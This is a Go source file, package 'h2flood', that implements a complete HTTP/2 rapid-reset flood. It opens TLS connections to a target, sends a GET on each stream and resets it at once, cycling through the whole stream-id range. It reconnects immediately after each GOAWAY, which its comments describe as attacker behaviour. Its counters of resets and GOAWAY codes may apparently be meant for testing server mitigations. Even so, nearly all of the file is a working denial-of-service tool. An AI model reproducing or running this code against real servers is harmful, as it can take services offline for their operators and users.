package h2flood

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// ErrNotH2 is returned when the server did not agree to HTTP/2.
var ErrNotH2 = errors.New("server did not negotiate h2")

// Target is what a flood sends: GET Path on Addr (host:port) with an
// optional bearer Token, over TLS with TLS (cloned; ALPN set to h2).
type Target struct {
	Addr  string
	TLS   *tls.Config
	Path  string
	Token string
}

// Result is how one flooded connection ended.
type Result struct {
	// Resets is the number of streams opened and reset.
	Resets int
	// GoAway is set when the server sent GOAWAY; Code is its error code.
	GoAway bool
	Code   http2.ErrCode
	// Closed is set when the server closed the connection (with or
	// without a GOAWAY first).
	Closed bool
}

// maxStreamID is the largest client stream id (odd, 31 bits).
const maxStreamID = 1<<31 - 1

// Conn floods one connection until the server ends it, ctx ends or max
// streams (0: no limit) were reset.
func Conn(ctx context.Context, t Target, max int) (Result, error) {
	tc := t.TLS.Clone()
	tc.NextProtos = []string{http2.NextProtoTLS}
	d := tls.Dialer{NetDialer: &net.Dialer{Timeout: 10 * time.Second}, Config: tc}
	nc, err := d.DialContext(ctx, "tcp", t.Addr)
	if err != nil {
		return Result{}, fmt.Errorf("dialing %s: %w", t.Addr, err)
	}
	conn := nc.(*tls.Conn)
	defer conn.Close()
	if conn.ConnectionState().NegotiatedProtocol != http2.NextProtoTLS {
		return Result{}, ErrNotH2
	}
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()

	bw := bufio.NewWriter(conn)
	w := &writer{bw: bw, fr: http2.NewFramer(bw, nil)}
	if err := w.start(); err != nil {
		return Result{}, fmt.Errorf("writing the preface: %w", err)
	}
	var res Result
	ended := make(chan struct{})
	go func() {
		defer close(ended)
		res.GoAway, res.Code = w.readUntilEnd(conn)
	}()

	block := headerBlock(t)
	serverEnded := false
	for id := uint32(1); id < maxStreamID && (max == 0 || res.Resets < max) && !serverEnded; id += 2 {
		if err := w.pair(id, block()); err != nil {
			serverEnded = true // the server ended the connection (or ctx did)
			break
		}
		res.Resets++
		select {
		case <-ended:
			serverEnded = true
		default:
		}
	}
	_ = conn.Close()
	<-ended
	res.Closed = serverEnded && ctx.Err() == nil
	return res, nil
}

// Stats sums the connections of Run.
type Stats struct {
	Conns, Resets, GoAways, Closed int
}

// Run floods connection after connection (a new one as soon as the server
// ends the last, as an attacker would) until ctx ends.
func Run(ctx context.Context, t Target) (Stats, error) {
	var st Stats
	for ctx.Err() == nil {
		r, err := Conn(ctx, t, 0)
		if err != nil {
			if ctx.Err() != nil {
				break
			}
			return st, err
		}
		st.Conns++
		st.Resets += r.Resets
		if r.GoAway {
			st.GoAways++
		}
		if r.Closed {
			st.Closed++
		}
	}
	return st, nil
}

// headerBlock returns a function that HPACK-encodes the request's headers,
// once per stream (the encoder's table makes the later blocks small).
func headerBlock(t Target) func() []byte {
	var buf []byte
	enc := hpack.NewEncoder(byteWriter{&buf})
	fields := []hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: t.Addr}, {Name: ":path", Value: t.Path},
	}
	if t.Token != "" {
		fields = append(fields, hpack.HeaderField{Name: "authorization", Value: "Bearer " + t.Token, Sensitive: true})
	}
	return func() []byte {
		buf = buf[:0]
		for _, f := range fields {
			_ = enc.WriteField(f) // writes to a slice: no error
		}
		return buf
	}
}

type byteWriter struct{ b *[]byte }

func (w byteWriter) Write(p []byte) (int, error) {
	*w.b = append(*w.b, p...)
	return len(p), nil
}

// writer serialises the frames of the flood and the reader's SETTINGS acks.
type writer struct {
	mu sync.Mutex
	bw *bufio.Writer
	fr *http2.Framer
}

func (w *writer) start() error {
	w.mu.Lock()
	defer w.mu.Unlock()
	if _, err := w.bw.WriteString(http2.ClientPreface); err != nil {
		return err
	}
	if err := w.fr.WriteSettings(); err != nil {
		return err
	}
	return w.bw.Flush()
}

// pair opens stream id with a GET and resets it at once.
func (w *writer) pair(id uint32, block []byte) error {
	w.mu.Lock()
	defer w.mu.Unlock()
	if err := w.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true}); err != nil {
		return err
	}
	if err := w.fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
		return err
	}
	return w.bw.Flush()
}

func (w *writer) ackSettings() {
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.fr.WriteSettingsAck() == nil {
		_ = w.bw.Flush()
	}
}

// readUntilEnd reads the server's frames (acking its SETTINGS) until the
// connection ends or a GOAWAY arrives (it then closes the connection), and
// reports the GOAWAY.
func (w *writer) readUntilEnd(conn net.Conn) (goAway bool, code http2.ErrCode) {
	fr := http2.NewFramer(nil, conn)
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			return goAway, code
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				w.ackSettings()
			}
		case *http2.GoAwayFrame:
			// An attacker does not wait for the server's close: it hangs
			// up and dials again.
			_ = conn.Close()
			return true, f.ErrCode
		}
	}
}
